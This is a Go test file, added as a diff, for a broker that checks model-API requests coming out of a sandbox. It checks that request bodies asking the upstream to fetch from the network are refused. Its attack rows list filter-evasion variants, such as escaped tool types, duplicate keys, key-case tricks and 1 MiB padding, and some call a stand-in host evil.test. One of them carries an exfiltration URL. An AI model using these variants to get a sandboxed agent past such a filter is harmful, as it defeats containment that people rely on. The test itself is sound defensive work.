@@ -1,0 +1,96 @@
+package brokerctl
+
+import (
+	"encoding/json"
+	"io"
+	"net/http"
+	"strings"
+	"sync"
+	"testing"
+)
+
+// TestUpstreamFetchRequestsRefused: a model-call body can make the upstream reach the
+// network for the jail — a server tool (web_fetch, web_search, mcp), MCP servers, an
+// image or document given by URL. Each attack row goes over real mTLS to an allowed route
+// and must come back 403 body_refused with the upstream never receiving a complete body;
+// each control row (client tools, a URL that is only data in the history, inline
+// images) must reach the upstream byte for byte. The padded rows put the offending part
+// after 1 MiB, so the upstream has most of the body before the scanner sees it: the held
+// back last byte keeps it incomplete.
+func TestUpstreamFetchRequestsRefused(t *testing.T) {
+	var mu sync.Mutex
+	var got []string // complete, well-formed bodies the upstream received
+	h := newHarness(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, err := io.ReadAll(r.Body)
+		if err == nil && json.Valid(b) {
+			mu.Lock()
+			got = append(got, string(b))
+			mu.Unlock()
+		}
+		io.WriteString(w, `{"ok":true}`)
+	}), func(o *Options) { o.LLMRoutes = []string{"POST /v1/messages"} })
+	cert := h.workerCert("w1")
+	c := h.client(&cert)
+	pad := `"pad":"` + strings.Repeat("x", 1<<20) + `",`
+	rows := []struct {
+		name, body string
+		ok         bool
+	}{
+		{"control: function tool", `{"model":"m","tools":[{"type":"function","function":{"name":"f"}}],"messages":[]}`, true},
+		{"control: tool without type whose schema has a url", `{"tools":[{"name":"web_fetch","input_schema":{"type":"object","properties":{"url":{"type":"string"}}}}]}`, true},
+		{"control: url in tool_use history", `{"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"web_fetch","input":{"url":"https://example.com"}}]}]}`, true},
+		{"control: data url image", `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}`, true},
+		{"control: base64 image source", `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}]}`, true},
+		{"control: client bash tool", `{"tools":[{"type":"bash_20250124","name":"bash"}]}`, true},
+		{"control: padded clean body", `{` + pad + `"tools":[{"type":"custom","name":"x"}]}`, true},
+		{"web_fetch server tool", `{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[]}`, false},
+		{"web_search server tool", `{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, false},
+		{"code execution server tool", `{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, false},
+		{"openai mcp tool", `{"tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.test/x"}]}`, false},
+		{"escaped tool type", `{"tools":[{"type":"web\u005ffetch_20250910"}]}`, false},
+		{"duplicate type key", `{"tools":[{"type":"function","type":"web_search"}]}`, false},
+		{"key case", `{"TOOLS":[{"Type":"web_search"}]}`, false},
+		{"mcp_servers", `{"mcp_servers":[{"type":"url","url":"https://evil.test/","name":"x"}]}`, false},
+		{"web_search_options", `{"web_search_options":{}}`, false},
+		{"image source by url", `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.test/leak?d=secret"}}]}]}`, false},
+		{"document source by url", `{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"http://evil.test/d.pdf"}}]}]}`, false},
+		{"openai image_url object", `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.test/a"}}]}]}`, false},
+		{"openai input_image string, upper case", `{"input":[{"role":"user","content":[{"type":"input_image","image_url":"HTTPS://evil.test"}]}]}`, false},
+		{"escaped scheme", `{"messages":[{"content":[{"image_url":{"url":"\u0068ttps://evil.test"}}]}]}`, false},
+		{"leading space", `{"messages":[{"content":[{"image_url":{"url":"  //evil.test/x"}}]}]}`, false},
+		{"second JSON value", `{"a":1}{"tools":[{"type":"web_search"}]}`, false},
+		{"not JSON", `tools=web_search`, false},
+		{"truncated", `{"tools":[`, false},
+		{"padded server tool", `{` + pad + `"tools":[{"type":"web_fetch_20250910"}]}`, false},
+		{"padded image url", `{` + pad + `"messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.test/"}}]}]}`, false},
+	}
+	for _, r := range rows {
+		mu.Lock()
+		before := len(got)
+		mu.Unlock()
+		req, _ := http.NewRequest("POST", h.url+"/llm/v1/messages", strings.NewReader(r.body))
+		req.Header.Set("Content-Type", "application/json")
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatalf("%s: %v", r.name, err)
+		}
+		b, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		mu.Lock()
+		reached := len(got) > before
+		var last string
+		if reached {
+			last = got[len(got)-1]
+		}
+		mu.Unlock()
+		if r.ok {
+			if resp.StatusCode != 200 || !reached || last != r.body {
+				t.Errorf("%s: %d %s, upstream got it intact: %v", r.name, resp.StatusCode, capText(string(b), 200), reached && last == r.body)
+			}
+			continue
+		}
+		if resp.StatusCode != 403 || !strings.Contains(string(b), "body_refused") || reached {
+			t.Errorf("%s: %d %s, upstream received a complete body: %v", r.name, resp.StatusCode, capText(string(b), 300), reached)
+		}
+	}
+}
